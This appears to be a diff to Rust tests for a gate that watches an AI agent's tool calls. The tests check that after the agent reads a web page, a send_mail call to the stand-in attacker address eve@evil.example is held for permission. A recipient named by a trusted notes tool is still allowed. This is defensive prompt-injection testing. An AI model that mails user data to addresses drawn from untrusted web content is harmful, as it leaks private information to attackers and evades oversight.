@@ -5,7 +5,7 @@ use monitor::{Asked, Executor, OUTPUT_BYTES_MAX, Output, Permit, Refusal, Status
 use serde::Deserialize;
 use serde_json::{Value, json};
 
-use crate::world::{Gives, World, content, read_page, send_mail};
+use crate::world::{Gives, PAGE, World, asks, content, read_page, send_mail};
 
 #[derive(Deserialize)]
 #[serde(deny_unknown_fields)]
@@ -68,7 +68,7 @@ fn tags_that_content_already_has_come_along() {
                 unix_seconds: 1,
                 record: String::new(),
             };
-            Output { tags: vec![tag], ..Output::text("a note") }
+            Output { tags: vec![tag], ..Output::text(PAGE) }
         }
     }
     let world = World::new();
@@ -79,6 +79,8 @@ fn tags_that_content_already_has_come_along() {
     assert_eq!(delivered.tag.unwrap().origin, "https://old.example");
     assert!(gate.taint(&who).contains(Taint::WEB_DERIVED));
     assert_eq!(gate.monitor.summary(&who).unwrap().origin, "https://old.example");
+    // Who stands in it is somebody's whom nobody knows.
+    asks(gate.call(&who, &send_mail("eve@evil.example"), ""));
 }
 
 #[test]
@@ -176,4 +178,16 @@ fn an_origin_is_the_address_or_the_tool_and_what_it_looked_at() {
     gate.hear(&who, Source::User, &user).unwrap();
     let delivered = gate.call(&who, &("read_page", json!({ "url": long })), "It is.").unwrap();
     assert!(delivered.tag.unwrap().origin.chars().count() < 200);
+}
+
+#[test]
+fn whom_a_trusted_tool_names_may_be_written_to_also_after_a_page_was_read() {
+    let world = World::new();
+    let gate = world.open_unsynced();
+    let who = gate.begin("s");
+    gate.hear(&who, Source::User, "Look into my notes and send a mail to Carol.").unwrap();
+    gate.call(&who, &read_page(), PAGE).unwrap();
+    gate.call(&who, &("list_notes", json!({})), "Carol is carol@example.org").unwrap();
+    gate.call(&who, &send_mail("carol@example.org"), "").unwrap();
+    asks(gate.call(&who, &send_mail("eve@evil.example"), ""));
 }
